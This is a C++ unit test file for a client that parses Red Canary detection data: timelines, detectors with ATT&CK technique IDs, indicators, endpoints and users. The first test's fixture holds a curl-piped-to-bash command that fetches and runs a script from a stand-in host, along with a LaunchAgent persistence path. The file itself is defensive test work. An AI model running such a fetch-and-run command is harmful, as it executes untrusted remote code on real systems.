// Parsing of the resources linked from a detection, and of endpoints, from the fixture data
// (which follows Red Canary's published shapes) and from hand-made edge cases.
#include <gtest/gtest.h>

#include <boost/json/parse.hpp>

#include "fixtures.hpp"
#include "red_canary/detectors.hpp"
#include "red_canary/endpoint.hpp"
#include "red_canary/indicators.hpp"
#include "red_canary/timeline.hpp"

namespace red_canary {
namespace {

namespace json = boost::json;
using testing::fixture;
using testing::fixture_items;

TEST(Timeline, ProcessNetworkAndFileEntriesAreFlattened) {
  auto entries = timeline_entries(fixture_items("timelines.json", "4127"));
  ASSERT_EQ(entries.size(), 7u);
  const auto& bash = entries[0].as_object();
  EXPECT_EQ(bash.at("activity"), "process_activity_occurred");
  EXPECT_EQ(bash.at("occurred_at"), "2026-11-20T09:13:58Z");
  EXPECT_EQ(bash.at("process").at("path"), "/bin/bash");
  EXPECT_EQ(bash.at("process").at("command_line"),
            "/bin/bash -c \"curl -fsSL https://update-check.example.net/agent.sh | bash\"");
  EXPECT_EQ(bash.at("process").at("pid"), 48211);
  const auto& connection = entries[2].at("network_connection");
  EXPECT_EQ(connection.at("ip_address"), "203.0.113.45");
  EXPECT_EQ(connection.at("port"), 443);
  EXPECT_EQ(connection.at("domain"), "update-check.example.net");
  const auto& plist = entries[4].at("file_modification");
  EXPECT_EQ(plist.at("modification_type"), "file_creation");
  EXPECT_EQ(plist.at("path"), "/Users/jchen/Library/LaunchAgents/com.update-check.agent.plist");
}

TEST(Timeline, OtherEntriesKeepTheirTypeAndMissingPartsAreNull) {
  auto entries = timeline_entries({
      json::parse(R"({"type": "exec.PlaybookExecution", "id": 1, "attributes": {}})").as_object(),
      json::parse(R"({"type": "activity_timelines.ActivityOccurred", "attributes": {
          "type": "process_activity_occurred", "occurred_at": "2026-11-20T09:00:00Z",
          "process_execution": {"attributes": {"operating_system_process": {"attributes": {
            "image": {"attributes": {"path": "/bin/zsh"}}}}}}}})")
          .as_object(),
  });
  EXPECT_EQ(entries[0].at("activity"), "exec.PlaybookExecution");
  EXPECT_TRUE(entries[0].at("occurred_at").is_null());
  EXPECT_FALSE(entries[0].as_object().contains("process"));
  EXPECT_EQ(entries[1].at("process").at("path"), "/bin/zsh");
  EXPECT_TRUE(entries[1].at("process").at("command_line").is_null());
  EXPECT_TRUE(entries[1].at("process").at("sha256").is_null());
}

TEST(Detectors, TechniquesComeFromRelationshipsAndNames) {
  auto detectors = detector_list(fixture_items("detectors.json", "4127"));
  ASSERT_EQ(detectors.size(), 3u);
  EXPECT_EQ(detectors[0].at("name"), "MAC-CURL-PIPED-TO-SHELL");
  EXPECT_EQ(detectors[0].at("techniques"), (json::array{"T1059.004", "T1105"}));
  // Only named: the legacy published form "ATT&CK Technique T1064 - Scripting".
  auto named = detector_list({json::parse(R"({"id": 1031, "attributes": {"name": "X",
      "attack_technique_identifiers": ["ATT&CK Technique T1064 - Scripting"]}})")
                                  .as_object()});
  EXPECT_EQ(named[0].at("techniques"), (json::array{"T1064"}));
}

TEST(Detectors, TechniqueIdsAreFoundInText) {
  EXPECT_EQ(technique_ids_in("ATT&CK Technique T1543.001 - Launch Agent"),
            (std::vector<std::string>{"T1543.001"}));
  EXPECT_EQ(technique_ids_in("T1059, T1059.004 and T1059"),
            (std::vector<std::string>{"T1059", "T1059.004"}));
  EXPECT_TRUE(technique_ids_in("AT1059 T12 T10590 T1059.1").empty());
}

TEST(Indicators, FilesDomainsAndIpsAreTyped) {
  auto indicators = indicator_list(fixture_items("indicators.json", "4127"));
  ASSERT_EQ(indicators.size(), 4u);
  EXPECT_EQ(indicators[0].at("type"), "domain");
  EXPECT_EQ(indicators[0].at("value"), "update-check.example.net");
  EXPECT_EQ(indicators[1].at("type"), "ip");
  EXPECT_EQ(indicators[1].at("value"), "203.0.113.45");
  EXPECT_EQ(indicators[2].at("type"), "file");
  EXPECT_EQ(indicators[2].at("value"),
            "/Users/jchen/Library/Application Support/.update-check/agent");
  EXPECT_EQ(indicators[2].at("sha256"),
            "06e9104610a94fbafa7e44b5a41908772b13fec38fdb758f542d3306b9dda52a");
  EXPECT_EQ(indicators[2].at("source_type"), "primitives.File");
  auto unknown = indicator_list({json::parse(R"({"type": "primitives.Url"})").as_object()});
  EXPECT_EQ(unknown[0].at("type"), "other");
  EXPECT_EQ(unknown[0].at("source_type"), "primitives.Url");
}

TEST(Endpoints, AddressesAndDetectionLinksAreRead) {
  auto resource = json::parse(R"({
    "type": "Endpoint", "id": 1187,
    "attributes": {"hostname": "mbp-fin-12", "platform": "MacOS",
      "operating_system": "macOS 13.6.1", "is_isolated": false, "is_decommissioned": false,
      "endpoint_network_addresses": [{"attributes": {
        "ip_address": {"attributes": {"ip_address": "192.0.2.112"}},
        "mac_address": {"attributes": {"address": "00:00:5e:00:53:12"}}}}]},
    "links": {"detections": [{"href": "https://x/openapi/v3/detections/4127"}]}})")
                      .as_object();
  auto endpoint = endpoint_summary(resource);
  EXPECT_EQ(endpoint.at("hostname"), "mbp-fin-12");
  EXPECT_EQ(endpoint.at("operating_system"), "macOS 13.6.1");
  EXPECT_EQ(endpoint.at("is_isolated"), false);
  EXPECT_EQ(endpoint.at("ip_addresses"), (json::array{"192.0.2.112"}));
  EXPECT_EQ(endpoint.at("mac_addresses"), (json::array{"00:00:5e:00:53:12"}));
  EXPECT_EQ(endpoint.at("detection_ids"), (json::array{4127}));
}

TEST(Endpoints, EndpointUsersGiveTheUserName) {
  auto user = identity_summary(fixture("endpoint_users.json").as_array().at(5).as_object());
  EXPECT_EQ(user.at("id"), 5512);
  EXPECT_EQ(user.at("username"), "jchen@corp.example");
}

}  // namespace
}  // namespace red_canary
